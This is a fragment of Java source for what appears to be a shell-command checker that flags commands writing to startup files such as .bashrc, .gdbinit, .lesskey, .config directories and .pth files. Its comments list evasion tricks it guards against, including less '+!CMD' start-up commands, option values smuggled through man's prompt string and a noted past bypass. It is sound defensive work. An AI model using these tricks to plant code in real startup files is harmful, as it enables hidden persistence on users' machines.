          // A first part only known when it runs may be the home directory (${HOME%/}, $(echo ~),
          // h=~; "$h", "$PWD" of a session that starts there): a dot-name right after it counts.
          + "|[^/]*" + Word.UNKNOWN + "[^/]*/(?!\\.ssh/(known_hosts[^/]*|id_[^/]*)$)\\.(?!\\.?(/|$)).*");

  /**
   * Directories whose files programs run at their start, by names a directory moved there whole
   * brings along: {@code .config} and each program's directory in it (gdb's {@code gdb/gdbinit},
   * neovim's {@code nvim/init.lua}, …), docker's {@code .docker} ({@code cli-plugins/docker-*}).
   * As {@code .vim/*} and {@code .local/*} in {@link #STARTUP_FILE}, compared by the path's end.
   */
  private static final Pattern CONFIGURATION_DIRECTORY = Pattern.compile("(?s)(.*/)?(\\.config(/[^/]+)?|\\.docker)");

  /**
   * cp, mv, install, ln or rsync into a home directory itself ({@code cp dots/.vimrc ~/}, {@code
   * rsync -a dots/ ~}): the names written are the sources' leaves, which {@link #namedWords} leaves
   * out. A dotfile, a directory's contents (recursive), or a name only known when it runs counts.
   */
  private static boolean copiesDotfilesIntoHome(ShellCommand c) {
    String n = c.name();
    if (!Set.of("cp", "mv", "install", "ln", "rsync").contains(n)) {
      return false;
    }
    List<Word> ops = operands(c);
    List<String> av = c.argValues();
    if (ops.isEmpty()) {
      return false;
    }
    Word target = ops.get(ops.size() - 1);
    List<Word> sources = ops.subList(0, ops.size() - 1);
    for (int i = 0; i < av.size(); i++) {
      String v = av.get(i);
      if (v.startsWith("--target-directory") || v.startsWith("-t")) {
        String t = v.startsWith("--") ? (v.contains("=") ? v.substring(v.indexOf('=') + 1) : i + 1 < av.size() ? av.get(i + 1) : "")
            : v.length() > 2 ? v.substring(2) : i + 1 < av.size() ? av.get(i + 1) : "";
        target = new Word(t, t, c.args().get(i).literal());
        sources = ops;
      }
    }
    boolean recursive = n.equals("rsync") || av.stream().anyMatch(v -> Regexes.matches(v, "-[^-]*[rRa].*") || v.startsWith("--recursive")
        || v.startsWith("--archive"));
    // Into a directory the written name is TARGET/leaf of the source (cp a.pth …/site-packages/);
    // a tree copied into a site directory may hold a .pth. A directory's contents (cp -R d/. .vim)
    // land under names the line does not spell.
    for (Word s : sources) {
      String leaf = Regexes.replaceFirst(s.value(), "/+$", "");
      leaf = leaf.substring(leaf.lastIndexOf('/') + 1);
      leaf = leaf.equals(".") || n.equals("rsync") && s.value().endsWith("/") ? String.valueOf(Word.UNKNOWN) : leaf;
      String into = Regexes.replaceFirst(target.value(), "/+$", "");
      if (!leaf.isEmpty() && startupFile(new Word(target.source() + "/" + leaf, into + "/" + leaf, target.literal()))
          && !(SHELL_STARTUP_NAMES.contains(leaf) && keptAsCopy(target))
          || recursive && Regexes.matches(into, "(?s).*(site|dist)-packages(/.*)?")) {
        return true;
      }
    }
    // A directory moved, linked or copied whole to a configuration directory (mv d .config/gdb,
    // ln -s d .docker, cp -r d .config): its files become that directory's (gdb/gdbinit,
    // cli-plugins/docker-*), named nowhere on the line.
    // (install copies files; ln links a directory only with -s; cp copies one only recursively.)
    boolean directories = n.equals("mv") || n.equals("rsync") || n.equals("cp") && recursive
        || n.equals("ln") && av.stream().anyMatch(v -> Regexes.matches(v, "-[^-]*s.*") || Wrappers.longOption(v, "symbolic"));
    String dest = target.value().startsWith("/") ? normalize(target.value()) : normalize("/" + target.value()).substring(1);
    if (directories && CONFIGURATION_DIRECTORY.matcher(Regexes.replaceFirst(dest, "/+$", "")).matches()) {
      return true;
    }
    String t = target.value();
    if (!t.isEmpty() && t.charAt(0) == Word.UNKNOWN && Regexes.matches(target.source(), "(?s)\"?\\$(HOME|\\{HOME})\"?/?")) {
      t = "~" + t.substring(1);
    }
    if (Regexes.matches(t, "(?s)[^/]*" + Word.UNKNOWN + "[^/]*/*")) {
      // A target only known when it runs may be the home directory: a dotfile, a directory's
      // contents (t/., rsync's t/) or a name only known when it runs counts, not a plain tree.
      return sources.stream().anyMatch(w -> {
        List<String> words = PathPatterns.braces(w.value());
        return words == null || w.value().indexOf(Word.UNKNOWN) >= 0 || words.stream().anyMatch(x -> {
          String leaf = Regexes.replaceFirst(x, "/+$", "");
          leaf = leaf.substring(leaf.lastIndexOf('/') + 1);
          return leaf.startsWith(".") || leaf.isEmpty() || n.equals("rsync") && x.endsWith("/");
        });
      });
    }
    if (!Regexes.matches(t, "(~[^/" + Word.UNKNOWN + "]*|/root|/home/[^/]+)/*")) {
      return false;
    }
    return recursive || sources.stream().anyMatch(w -> {
      List<String> words = PathPatterns.braces(w.value());
      return words == null || w.value().indexOf(Word.UNKNOWN) >= 0 || words.stream().anyMatch(x -> {
        String leaf = Regexes.replaceFirst(x, "/+$", "");
        leaf = leaf.substring(leaf.lastIndexOf('/') + 1);
        return leaf.startsWith(".") || leaf.isEmpty();
      });
    });
  }

  /**
   * An extractor whose destination is a home directory, by any spelling a write to its dotfiles
   * counts by, or a dot-directory of it: the archive's members are names the text does not spell,
   * and may be dotfiles. Into the working directory is the session's data, not counted.
   */
  private static boolean extractsIntoHome(ShellCommand c) {
    String n = c.name();
    List<Word> a = c.args();
    List<String> av = c.argValues();
    List<Word> dest = new ArrayList<>();
    switch (n) {
      case "tar", "gtar", "bsdtar", "star" -> {
        boolean extract = false;
        for (int i = 0; i < av.size(); i++) {
          String v = av.get(i);
          if (v.startsWith("--")) {
            extract |= Wrappers.longOption(v, "extract") || Wrappers.longOption(v, "get");
            if (Wrappers.longOption(v, "directory")) {
              dest.add(v.contains("=") ? suffix(a.get(i), v.indexOf('=') + 1) : i + 1 < a.size() ? a.get(i + 1) : UNKNOWN_WORD);
            }
            continue;
          }
          boolean old = i == 0 && !v.startsWith("-");
          if (!old && !v.startsWith("-")) {
            continue;
          }
          // Old style (xfC A DIR): each letter that takes a value takes the next word; with a dash
          // the rest of the word is the value, or the next word.
          int next = i + 1;
          for (int j = old ? 0 : 1; j < v.length(); j++) {
            char ch = v.charAt(j);
            extract |= ch == 'x';
            if ("fbCgHKLNTVX".indexOf(ch) < 0) {
              continue;
            }
            Word value = !old && j + 1 < v.length() ? suffix(a.get(i), j + 1) : next < a.size() ? a.get(next) : UNKNOWN_WORD;
            if (ch == 'C') {
              dest.add(value);
            }
            if (!old) {
              if (j + 1 == v.length()) {
                i++;
              }
              break;
            }
            next++;
          }
          if (old) {
            i = next - 1;
          }
        }
        if (!extract) {
          return false;
        }
      }
      case "unzip" -> {
        for (int i = 0; i < av.size(); i++) {
          String v = av.get(i);
          int d = v.indexOf('d');
          if (v.startsWith("-") && !v.startsWith("--") && d > 0) {
            dest.add(d + 1 < v.length() ? suffix(a.get(i), d + 1) : i + 1 < a.size() ? a.get(i + 1) : UNKNOWN_WORD);
          }
        }
      }
      case "cpio", "bsdcpio" -> {
        for (int i = 0; i < av.size(); i++) {
          String v = av.get(i);
          if (Wrappers.longOption(v, "directory")) {
            dest.add(v.contains("=") ? suffix(a.get(i), v.indexOf('=') + 1) : i + 1 < a.size() ? a.get(i + 1) : UNKNOWN_WORD);
          } else if (Regexes.matches(v, "-[^-]*D.*")) {
            int d = v.indexOf('D');
            dest.add(d + 1 < v.length() ? suffix(a.get(i), d + 1) : i + 1 < a.size() ? a.get(i + 1) : UNKNOWN_WORD);
          }
        }
      }
      case "7z", "7za", "7zr", "unar" -> {
        // 7z's -oDIR; unar's -o DIR (-output-directory).
        for (int i = 0; i < av.size(); i++) {
          String v = av.get(i);
          if (n.equals("unar") && (v.equals("-o") || v.startsWith("-output-d") || v.startsWith("--output-d"))) {
            dest.add(i + 1 < a.size() ? a.get(i + 1) : UNKNOWN_WORD);
          } else if (!n.equals("unar") && v.startsWith("-o")) {
            dest.add(suffix(a.get(i), 2));
          }
        }
      }
      case "unrar" -> {
        // unrar x ARCHIVE [FILES] [DIR/]: the words after the archive.
        List<Word> ops = a.stream().filter(w -> !w.value().startsWith("-")).toList();
        dest.addAll(ops.subList(Math.min(2, ops.size()), ops.size()));
      }
      case "dpkg-deb", "dpkg" -> {
        // dpkg-deb -x DEB DIR (-X, -R, -e): the words after the package.
        if (!ReadAtStart.dpkgExtracts(c)) {
          return false;
        }
        List<Word> ops = operands(c);
        dest.addAll(ops.subList(Math.min(1, ops.size()), ops.size()));
      }
      default -> {
        return false;
      }
    }
    return dest.stream().anyMatch(ShellClass::homeDirectory);
  }

  static final Word UNKNOWN_WORD = new Word("$_", String.valueOf(Word.UNKNOWN), false);

  /**
   * systemd-tmpfiles {@code --create} writes the files its configuration's lines name ({@code f
   * %h/x - - - - DATA}, {@code w}, {@code C}, {@code L}, …), filled as they say. Read from a file
   * operand, its input ({@code -}), {@code --replace}'s, or the directories of {@code --root},
   * {@code --image} or {@code --user} (the person's own), that configuration is no word of the
   * line: the names are only known when it runs. Options by any abbreviation getopt_long takes;
   * a word only known when it runs may be any of them.
   */
  private static boolean tmpfilesCreatesFromGivenConfig(ShellCommand c) {
    boolean creates = false;
    boolean given = false;
    List<Word> a = c.args();
    for (int i = 0; i < a.size(); i++) {
      Word w = a.get(i);
      String v = w.value();
      if (!w.literal() && (v.startsWith("-") || !v.isEmpty() && v.charAt(0) == Word.UNKNOWN)) {
        creates = given = true;
      } else if (v.startsWith("--") && v.length() > 2) {
        creates |= Wrappers.longOption(v, "create", "c");
        given |= Wrappers.longOption(v, "root", "r", "re") || Wrappers.longOption(v, "replace", "r", "re")
            || Wrappers.longOption(v, "image") || Wrappers.longOption(v, "user");
        if (v.indexOf('=') < 0 && (Wrappers.longOption(v, "prefix", "p") || Wrappers.longOption(v, "exclude-prefix")
            || Wrappers.longOption(v, "root", "r", "re") || Wrappers.longOption(v, "replace", "r", "re")
            || Wrappers.longOption(v, "image"))) {
          i++;
        }
      } else if (!v.startsWith("-") || v.equals("-")) {
        given = true;
      }
    }
    return creates && given;
  }

  /**
   * A name a program computes when it runs, so that no word of the text is it: awk printing to
   * anything but one string constant without escapes ({@code > sprintf(…)}, {@code > "\056lesskey"},
   * {@code > $0}, {@code > (f g)}), tar renaming members ({@code --transform}, {@code --xform}, by
   * any abbreviation; bsdtar's {@code -s}). It may be any file, a startup file too.
   */
  static final Word COMPUTED_NAME = new Word("(a name computed when it runs)", String.valueOf(Word.UNKNOWN), false);

  private static final Pattern AWK_CONCATENATION = Pattern.compile("(?s)[\\w$\\[\\]\\s\".+-]*\"([^\"\\\\]*)\"");

  /**
   * {@link #COMPUTED_NAME} with a known end: awk's target a plain concatenation ending in a string
   * constant without escapes ({@code > ($1 ".txt")}); a conditional or a call may end anywhere.
   */
  private static Word computedName(String target) {
    String t = target.strip();
    while (t.startsWith("(") && t.endsWith(")")) {
      t = t.substring(1, t.length() - 1).strip();
    }
    java.util.regex.Matcher m = AWK_CONCATENATION.matcher(t);
    String end = m.matches() ? m.group(1) : "";
    return new Word(COMPUTED_NAME.source(), Word.UNKNOWN + end, false);
  }

  private static Word suffix(Word w, int from) {
    String v = w.value();
    return new Word(w.source(), from <= v.length() ? v.substring(from) : "", w.literal());
  }

  /** A home directory (~, $HOME, /root, /home/U, a part only known when it runs) or a dot-directory in one. */
  private static boolean homeDirectory(Word w) {
    String t = w.value();
    if (!t.isEmpty() && t.charAt(0) == Word.UNKNOWN && Regexes.matches(w.source(), "(?s)\"?\\$(HOME|\\{HOME})\"?/?.*")) {
      t = "~" + t.substring(1);
    }
    t = t.startsWith("/") ? normalize(t) : t;
    return Regexes.matches(t, "(?s)(~[^/]*|/root|/home/[^/]+|[^/]*" + Word.UNKNOWN + "[^/]*)/*") || startupFile(w);
  }

  /**
   * The parts of a word that may each be a path: itself, or the file names of a script it holds
   * (awk's {@code > "F"}, sed's {@code w F}). A part that is a bundle of short options may carry
   * a file name glued after any of its letters (getopt: {@code sort -muokc}, {@code less
   * -So.lesskey} write {@code kc}, {@code .lesskey}), so what follows each letter counts too.
   */
  static String[] pathTokens(String x) {
    String[] tokens = Regexes.split(x, "[\\s\"'=:>(),;{}]+");
    List<String> out = null;
    for (String t : tokens) {
      if (t.length() > 2 && t.charAt(0) == '-' && t.charAt(1) != '-') {
        out = out != null ? out : new ArrayList<>(Arrays.asList(tokens));
        // The letters end where a path would start; the name may follow the last of them. A
        // name's first part is at most NAME_MAX (255) bytes (longer, the kernel refuses it), so
        // only the last 256 letters before it can start one.
        int end = 2;
        while (end < t.length() && t.charAt(end - 1) != '/' && t.charAt(end - 1) != '.') {
          end++;
        }
        int slash = t.indexOf('/', 2);
        int firstPartEnd = slash < 0 ? t.length() : slash;
        // And a whole path is under PATH_MAX (4,096 bytes), so a longer rest names no file.
        for (int i = Math.max(Math.max(2, firstPartEnd - 256), t.length() - 4096); i < end; i++) {
          out.add(t.substring(i));
        }
      }
    }
    return out == null ? tokens : out.toArray(String[]::new);
  }

  /**
   * A long option of less by any abbreviation, in any letter case: less 590 matches long option
   * names ignoring case ({@code --Log-File=f} logs like {@code --log-file=f}, {@code --LESSKEY-SRC}
   * reads a key file), so the word is compared lowercased.
   */
  /** man's short options that take a value (man --help): the rest of a bundle after one is that value. */
  private static final String MAN_SHORT_ARG = "CRLmMSsePEpTHX";

  /**
   * man's {@code -r}/{@code --prompt} STRING (also at the end of a bundle, {@code -7rSTRING}; by any
   * abbreviation argp takes) holding a {@code $}, or a part only known when it runs: man-db hands
   * less {@code LESS=-ix8RmPm<STRING>$PM<STRING>$} without escaping it, so a {@code $} ends the
   * prompt and what follows is less's own options ({@code $-o.lesskey$}: a log file; man's page
   * documents it as "further options for less"). Only man's {@code $MAN_PN} placeholder is no end.
   * A word after another option that takes a value is read as a prompt too (failing closed).
   */
  static boolean manPromptHoldsLessOptions(List<String> a) {
    for (int i = 0; i < a.size(); i++) {
      String v = a.get(i);
      if (v.equals("--")) {
        return false;
      }
      String prompt = null;
      if (v.startsWith("--")) {
        if (Wrappers.longOption(v, "prompt")) {
          prompt = v.contains("=") ? v.substring(v.indexOf('=') + 1) : i + 1 < a.size() ? a.get(i + 1) : "";
        }
      } else if (v.startsWith("-")) {
        for (int j = 1; j < v.length(); j++) {
          char ch = v.charAt(j);
          if (ch == 'r') {
            prompt = j + 1 < v.length() ? v.substring(j + 1) : i + 1 < a.size() ? a.get(i + 1) : "";
            break;
          }
          if (MAN_SHORT_ARG.indexOf(ch) >= 0) {
            break;
          }
        }
      }
      if (prompt != null) {
        String ends = prompt.replace("$MAN_PN", "");
        if (ends.indexOf('$') >= 0 || ends.indexOf(Word.UNKNOWN) >= 0) {
          return true;
        }
      }
    }
    return false;
  }

  /**
   * A word less reads as options naming a key file as less 590 reads it ({@code -N--lesskey-src},
   * {@code -x4k}, {@code -Pp$k}, the byte 0x01: {@code $'-\x01FILE'}), or holding start-up
   * commands after a {@code +} anywhere in it ({@code -N+!CMD}, {@code -Pp$+!CMD}), which less runs
   * as a leading {@code +CMD} word's.
   */
  private static boolean lessWordReadsKeysOrCommands(String word) {
    return word.length() > 1 && (word.startsWith("-") || word.startsWith("+"))
        && Wrappers.readLessWord(word).names().stream().anyMatch(o -> o.equals("k") || o.startsWith("lesskey")
            || o.startsWith("+") && lessStartRunsCommands(o));
  }

  /**
   * less's start-up commands ({@code +CMD}, {@code ++CMD}) other than a plain start position: a
   * line number, G, F, p, % or a search (no newline: the rest is its pattern).
   */
  private static boolean lessStartRunsCommands(String plusCommands) {
    return !Regexes.matches(plusCommands, "\\+\\+?([0-9]*[GgFfpP%]?|[/?][^\\n]*)");
  }

  static boolean lessLongOption(String word, String name) {
    return Wrappers.longOption(word.toLowerCase(Locale.ROOT), name);
  }

  /** The shells' startup files of {@link #STARTUP_FILE}, by name. */
  private static final Set<String> SHELL_STARTUP_NAMES = Set.of(".bashrc", ".bash_profile", ".bash_login", ".profile",
      ".bash_logout", ".bash_aliases", ".inputrc", ".zshenv", ".zprofile", ".zshrc", ".zlogin", ".zlogout", ".kshrc",
      ".mkshrc", ".tcshrc", ".cshrc", ".login", ".logout", ".pam_environment");

  /**
   * A copy's target that is no home directory a shell reads its startup files from, so a startup
   * file copied into it by its leaf ({@code cp .bashrc /tmp/bashrc.bak}, were that a directory)
   * runs nothing: a scratch directory ({@code /tmp}, {@code /var/tmp}, {@code /dev/shm}, under them)
   * or a name shaped as a kept copy ({@code bashrc.bak}, {@code .profile.orig}, {@code x~}). A target
   * that names the startup file itself counts by its own name.
   */
  private static boolean keptAsCopy(Word target) {
    String t = Regexes.replaceFirst(target.value(), "/+$", "");
    if (!target.literal() || t.indexOf(Word.UNKNOWN) >= 0 || PathPatterns.hasGlob(t)) {
      return false;
    }
    String leaf = t.substring(t.lastIndexOf('/') + 1);
    return t.startsWith("/") && Regexes.matches(normalize(t), "/(tmp|var/tmp|dev/shm)(/.*)?")
        || Regexes.matches(leaf, "(?s).+(\\.(bak|backup|orig|old|save|sav|copy|txt|dist|[0-9]+)|~)");
  }

  /** Last components of {@link #STARTUP_FILE}, for a pattern in a path's last component ({@code >> .bash?c}). */
  private static final Set<String> STARTUP_LEAVES = java.util.stream.Stream.concat(java.util.stream.Stream.of(".gdbinit", ".gdbearlyinit",
      ".lesskey", ".less", ".vimrc", ".gvimrc", ".exrc", ".psqlrc", ".curlrc", ".manpath", ".sqliterc", ".mailcap",
      ".hgrc", ".npmrc"),
      SHELL_STARTUP_NAMES.stream()).collect(java.util.stream.Collectors.toUnmodifiableSet());

  /** A word naming a startup file of {@link #STARTUP_FILE}, a token of it (a script's {@code w FILE}), or a pattern that may be one. */
  static boolean startupFile(Word w) {
    // A name computed when it runs may be any of them, but for a known end naming a data file
    // (awk's print > ($1 ".txt")), which no program reads at start.
    if (w.source().equals(COMPUTED_NAME.source()) && !w.literal()
        && !Regexes.matches(w.value(), "(?s).*\\.(txt|csv|tsv|log|out|dat|json|xml|html|md|err|tmp|bak)")) {
      return true;
    }
    String value = w.value();
    if (!value.isEmpty() && value.charAt(0) == Word.UNKNOWN && Regexes.matches(w.source(), "(?s)\"?\\$(HOME|\\{HOME})\"?/.*")) {
      value = "~" + value.substring(1);
    }
    List<String> words = PathPatterns.braces(value);
    if (words == null) {
      return true;
    }
    for (String x : words) {
      for (String token : pathTokens(x)) {
        String n = Regexes.replaceFirst((token.startsWith("/") ? normalize(token) : normalize("/" + token).substring(1)), "/+$", "");
        if (STARTUP_FILE.matcher(n).matches() || HOME_DOTFILE.matcher(n).matches()) {
          return true;
        }
        if (PathPatterns.hasGlob(n)) {
          String leaf = n.substring(n.lastIndexOf('/') + 1);
          if (PathPatterns.componentCouldBe(leaf, STARTUP_LEAVES)) {
            return true;
          }
        }
      }
    }
    return false;
  }

  /**
   * The files a sed script writes, by their exact names ({@code 1wks}, {@code s/^//wks} glue the
   * name to the command, so no token of the script word is it). The {@code -e} scripts join as
   * lines, as sed joins them; a script file ({@code -f}), a word only known when it runs or a
   * script not read exactly may write any file: a name only known when it runs stands for it.
   */
  private static List<Word> sedWrittenFiles(ToolScripts.Source src) {
    if (src.sandboxed() && !src.unknown()) {
      return List.of();
    }
    if (src.unknown() || !src.files().isEmpty() || src.inline().stream().anyMatch(w -> !w.literal())) {
      return List.of(UNKNOWN_WORD);
    }
    String script = String.join("\n", src.inline().stream().map(Word::value).toList());
    return ToolScripts.sedWrites(script).map(names -> names.stream().map(x -> new Word(x, x, true)).toList())
        .orElse(List.of(UNKNOWN_WORD));
  }

  /** less's default history files, by their last component (the session starts in the home directory). */
  private static final List<Word> LESS_HISTORY_NAMES = List.of(Word.literal(".lesshst", ".lesshst"),
      Word.literal("lesshst", "lesshst"));

  /**
   * A {@code LESSHISTFILE} less writes its history to (its searches, {@code '+/PATTERN'} among
   * them, and shell commands, as lines of text): any value but {@code -} and {@code /dev/null},
   * which keep none (less 590; empty is the default file). A startup file named so ({@code
   * .lesskey}, {@code .manpath}) or a script run later gets the text's lines.
   */
  static boolean lessHistoryKept(Word value) {
    return !value.literal() || !Set.of("-", "/dev/null").contains(value.value());
  }

  /** The words of {@code c} that may name a file it writes, for {@link GitFiles#writesGitConfig}. */
  static List<Word> namedWords(ShellCommand c) {
    String n = c.name();
    List<Word> a = c.args();
    List<String> av = c.argValues();
    if (GIT_READERS.contains(n)) {
      switch (n) {
        case "less" -> {
          // -o/-O FILE (--log-file, --LOG-FILE) copies the input to FILE, also at the end of a bundle.
          // less also saves its searches ('+/PATTERN' too) and shell commands to its history file:
          // by default ~/.lesshst or $XDG_DATA_HOME/lesshst (less 590), named by their last component
          // (a LESSHISTFILE the text sets is refused as an assignment: lessHistoryKept).
          List<Word> out = new ArrayList<>(LESS_HISTORY_NAMES);
          if (av.stream().anyMatch(v -> Regexes.matches(v, "(?s)-[^-]*[oO].*") || lessLongOption(v, "log-file"))) {
            out.addAll(a);
          }
          return out;
        }
        case "find" -> {
          for (int i = 0; i < av.size(); i++) {
            String v = av.get(i);
            if (Regexes.matches(v, "-(delete|fprint0?|fprintf|fls)")) {
              return a;
            }
            if (Regexes.matches(v, "-(exec|execdir|ok|okdir)") && (i + 1 >= a.size() || !a.get(i + 1).literal()
                || !GIT_READERS.contains(Regexes.replaceFirst(av.get(i + 1), ".*/", "")))) {
              return a;
            }
          }
          return Wrappers.findMayWrite(a); // after a word only known when it runs, which may be -fprint
        }
        case "git" -> {
          // show/diff/log --output=FILE, format-patch -o/--output-directory, archive -o: git writes FILE.
          // parse-options also takes the value as the next word (git diff --output s).
          List<Word> out = new ArrayList<>();
          for (int i = 0; i < av.size(); i++) {
            String v = av.get(i);
            if (v.startsWith("--o") || Regexes.matches(v, "-o.+")) {
              out.add(a.get(i));
              if (!v.contains("=") && v.length() > 3 && "--output-directory".startsWith(v) && i + 1 < a.size()) {
                out.add(a.get(i + 1));
              }
            } else if (v.equals("-o") && i + 1 < a.size()) {
              out.add(a.get(i + 1));
            }
          }
          int s = 0;
          while (s < av.size() && av.get(s).startsWith("-")) {
            s += Regexes.matches(av.get(s), "-C|-c|--git-dir|--work-tree|--namespace|--config-env|--super-prefix") ? 2 : 1;
          }
          String sub = s < av.size() ? av.get(s) : "";
          List<Word> ops = new ArrayList<>();
          boolean ended = false;
          for (int i = s + 1; i < a.size(); i++) {
            if (!ended && av.get(i).equals("--")) {
              ended = true;
            } else if (ended || !av.get(i).startsWith("-") || av.get(i).equals("-")) {
              ops.add(a.get(i));
            }
          }
          switch (sub) {
            // git mv SRC… DST renames the text's own files to DST, or into it under their leaves.
            case "mv" -> {
              if (ops.size() >= 2) {
                out.add(ops.get(ops.size() - 1));
                for (Word w : ops.subList(0, ops.size() - 1)) {
                  String t = Regexes.replaceFirst(w.value(), "/+$", "");
                  String leaf = t.substring(t.lastIndexOf('/') + 1);
                  out.add(new Word(leaf, leaf, w.literal()));
                }
              }
            }
            // format-patch names its files NNNN-subject.patch, N (--numbered-files), vR-NNNN-…
            // (--reroll-count), the commit message's lines verbatim within.
            case "format-patch" -> {
              if (!av.contains("--stdout")) {
                out.add(Word.literal("[0-9v]*", "[0-9v]*"));
              }
            }
            // A bundle's header lists the text's ref names as lines of text.
            case "bundle" -> {
              if (ops.size() >= 2 && ops.get(0).value().equals("create")) {
                out.add(ops.get(1));
              }
            }
            case "archive", "checkout-index" -> out.addAll(gitComposedNames(a.subList(s + 1, a.size()), sub));
            // update-index --cacheinfo puts PATH into the index with a blob the text may make; any
            // checkout (checkout-index -a, checkout -- ., restore, reset --hard) then writes PATH.
            case "update-index" -> out.addAll(gitCacheinfoPaths(a.subList(s + 1, a.size())));
            case "config" -> out.addAll(gitConfigFileWritten(a.subList(s + 1, a.size())));
            // mailinfo MSG PATCH writes its input's message to MSG and its patch to PATCH; merge-file
            // writes the merge into its first file (-L's labels and -p aside: all counted);
            // interpret-trailers --in-place rewrites its files.
            case "mailinfo", "merge-file" -> out.addAll(ops);
            case "interpret-trailers" -> {
              if (av.stream().anyMatch(v -> v.length() > 3 && Wrappers.longOption(v, "in-place"))) {
                out.addAll(ops);
              }
            }
            default -> { }
          }
          return out;
        }
        default -> {
          return List.of();
        }
      }
    }
    List<Word> own = a;
    for (Wrappers.Step s : Wrappers.unwrap(n, a)) {
      if (s instanceof Wrappers.Inner in && in.words().size() <= own.size()
          && own.subList(own.size() - in.words().size(), own.size()).equals(in.words())) {
        own = own.subList(0, own.size() - in.words().size());
      }
    }
    switch (n) {
      case "cp", "mv", "install", "rsync" -> {
        boolean links = n.equals("cp") && av.stream().anyMatch(v -> Regexes.matches(v, "-[^-]*[sl].*")
            || Wrappers.longOption(v, "symbolic-link") || Wrappers.longOption(v, "link"));
        // cp's options that take the next word (--sparse never, --no-preserve mode, -S SUF) are no
        // operands: cp A /etc/passwd --sparse never writes /etc/passwd (attack 17cl: NEVER was read as the target)
        List<Word> ops = n.equals("cp") ? cpOperands(a) : operands(c);
        // -t DIR in a bundle (-at DIR) or --target-directory by any abbreviation (--ta DIR): every operand is a source
        if (links || ops.size() < 2 || av.stream().anyMatch(v -> Regexes.matches(v, "-[^-]*t.*")
            || Wrappers.longOption(v, "target-directory"))) {
          return withBackups(a, c);
        }
        List<Word> sources = ops.subList(0, ops.size() - 1);
        return withBackups(a.stream().filter(w -> !sources.contains(w)).toList(), c);
      }
      case "ln", "perl" -> {
        return withBackups(own, c);
      }
      case "dd" -> {
        return a.stream().filter(w -> !w.value().startsWith("if=")).toList();
      }
      case "zstd", "zstdmt", "unzstd" -> {
        // --output-dir-flat/-mirror DIR: the names it derives are written in DIR (.config/git/config).
        List<Word> out = new ArrayList<>(own);
        out.addAll(ReadAtStart.namesUnderOutputDirs(c));
        return out;
      }
      case "ssh-keygen" -> {
        List<Word> out = new ArrayList<>(own);
        out.addAll(sshKeygenDerivedNames(own));
        return out;
      }
      case "llvm-reduce" -> {
        // Its --test program and --test-arg words are the command it runs (judged as one), not files it writes.
        List<Word> out = new ArrayList<>();
        for (int i = 0; i < a.size(); i++) {
          if (Regexes.matches(av.get(i), "--?test(-arg)?")) {
            i++;
          } else if (!Regexes.matches(av.get(i), "(?s)--?test(-arg)?=.*")) {
            out.add(a.get(i));
          }
        }
        return out;
      }
      case "systemd-tmpfiles" -> {
        List<Word> out = new ArrayList<>(own);
        if (tmpfilesCreatesFromGivenConfig(c)) {
          out.add(COMPUTED_NAME);
        }
        return out;
      }
      case "curl" -> {
        List<Word> out = new ArrayList<>(own);
        out.addAll(curlWrittenNames(own, av));
        return out;
      }
      case "sed", "gsed", "awk", "gawk", "mawk", "nawk" -> {
        // The files a script reads (sed -n p .git/config) are no writes; its words (w FILE, print >
        // "FILE") and awk's assignments (-v f=…, f=… among the files) count. An in-place edit
        // (sed -i, gawk -i inplace) rewrites each file it is given: they count as written.
        ToolScripts.Source src = n.contains("sed") ? ToolScripts.sedSource(a) : ToolScripts.awkSource(a);
        boolean inPlace = n.contains("sed") ? sedEditsInPlace(a) : awkIncludes(a);
        List<Word> reads = inPlace ? List.of()
            : operands(c).stream().filter(w -> !src.inline().contains(w) && w.value().indexOf('=') < 0).toList();
        List<Word> out = new ArrayList<>(a.stream().filter(w -> !reads.contains(w)).toList());
        if (n.contains("sed")) {
          out.addAll(sedWrittenFiles(src));
          out.addAll(backupNames(c, List.of()));
        } else {
          for (Word p : src.inline()) {
            List<String> targets = p.literal() ? GitFiles.awkWriteTargets(p.value()) : null;
            for (String t : targets == null ? List.<String>of() : targets) {
              if (!Regexes.matches(t, "(?s)\"[^\"\\\\]*\"")) {
                out.add(computedName(t));
              }
            }
          }
        }
        return out;
      }
      case "tar", "gtar", "bsdtar" -> {
        // Creating or listing an archive reads its operands (tar czf repo.tgz .git); its options and
        // their values count (the archive, --index-file). Any other mode may write under -C DIR.
        boolean old = !av.isEmpty() && !av.get(0).startsWith("-");
        String modes = tarModes(av);
        boolean reads = Regexes.matches(modes, "[^xruA]*[ctd][^xruA]*") && av.stream().noneMatch(v -> v.startsWith("--")
            && !Regexes.matches(v, "--(c|cr|cre|crea|creat|create|l|li|lis|list|d|di|dif|diff|com|comp|compa|compar|compare)([= ].*)?")
            && (Wrappers.longOption(v, "extract") || Wrappers.longOption(v, "get") || Wrappers.longOption(v, "append")
                || Wrappers.longOption(v, "update") || Wrappers.longOption(v, "delete") || Wrappers.longOption(v, "catenate")
                || Wrappers.longOption(v, "concatenate")));
        List<Word> kept = new ArrayList<>();
        for (int i = 0; i < a.size(); i++) {
          // --exclude=.git names what not to read or write.
          if (!Regexes.matches(av.get(i), "--(exclude|exclude-from|exclude-tag[a-z-]*)(=.*)?")
              && !(i > 0 && Regexes.matches(av.get(i - 1), "--(exclude|exclude-from|exclude-tag[a-z-]*)|-X"))) {
            kept.add(a.get(i));
          }
        }
        // Renamed members (tar -c k --tr 's/$/s/' | tar -x writes ks) are named by no word; the
        // archive written may be extracted later in the text, so creating one counts too.
        if (av.stream().anyMatch(v -> Wrappers.longOption(v, "transform") || Wrappers.longOption(v, "xform"))
            || n.equals("bsdtar") && (shortFlagIn(c, 's') || old && av.get(0).indexOf('s') >= 0)) {
          kept.add(COMPUTED_NAME);
        }
        if (!reads) {
          return kept;
        }
        int bundled = old ? (int) av.get(0).chars().filter(ch -> "bCfFgHIKLNTVX".indexOf(ch) >= 0).count() : 0;
        List<Word> out = new ArrayList<>(kept.contains(COMPUTED_NAME) ? List.of(COMPUTED_NAME) : List.of());
        for (int i = 0; i < a.size(); i++) {
          String v = av.get(i);
          if ((i <= bundled && old || v.startsWith("-") || Wrappers.mayBeOptionValue(av, i, "bCfFgHIKLNTVX"))
              && kept.contains(a.get(i))) {
            out.add(a.get(i));
          }
        }
        return out;
      }
      default -> {
        return own;
      }
    }
  }

  /**
   * GNU sed's in-place edit, which rewrites each file operand: {@code -i[SUF]} alone or in a
   * bundle of flags ({@code -ni}, {@code -si}, {@code -Ei.bak}; after {@code e}, {@code f} or
   * {@code l} the rest is their value), {@code --in-place[=SUF]} by any abbreviation getopt_long
   * takes ({@code --i}: no other long option starts so); an option only known when it runs may be it.
   */
